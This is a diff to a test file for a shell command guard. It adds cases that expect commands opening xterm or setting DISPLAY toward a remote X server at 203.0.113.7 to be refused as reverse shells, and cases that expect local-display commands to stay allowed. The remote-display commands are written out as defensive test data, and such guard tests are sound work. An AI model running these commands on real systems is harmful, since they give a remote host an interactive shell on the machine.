@@ -26,6 +26,9 @@ from tests.guards.command_guard.cg_support import allowed, refused
         ("export DISPLAY=203.0.113.7:0; xterm &", "raw_socket"),
         ("xdotool --display 203.0.113.7:0 type id", "raw_socket"),
         ("firefox --display=203.0.113.7:0", "raw_socket"),
+        ("xterm -d 203.0.113.7:1", "reverse_shell"),
+        ("env DISPLAY=203.0.113.7:1 xterm", "raw_socket"),
+        ("sudo DISPLAY=203.0.113.7:1 xterm", "raw_socket"),
     ],
 )
 def test_a_remote_x_display_is_refused(command: str, effect: str) -> None:
@@ -41,6 +44,8 @@ def test_a_remote_x_display_is_refused(command: str, effect: str) -> None:
         "export DISPLAY=:1",
         "xvfb-run -a npm test",
         "firefox --display=:1 docs/index.html",
+        "xterm -d :0",
+        "env DISPLAY=:0 xdg-open docs/index.html",
     ],
 )
 def test_a_local_display_stays_allowed(command: str) -> None:
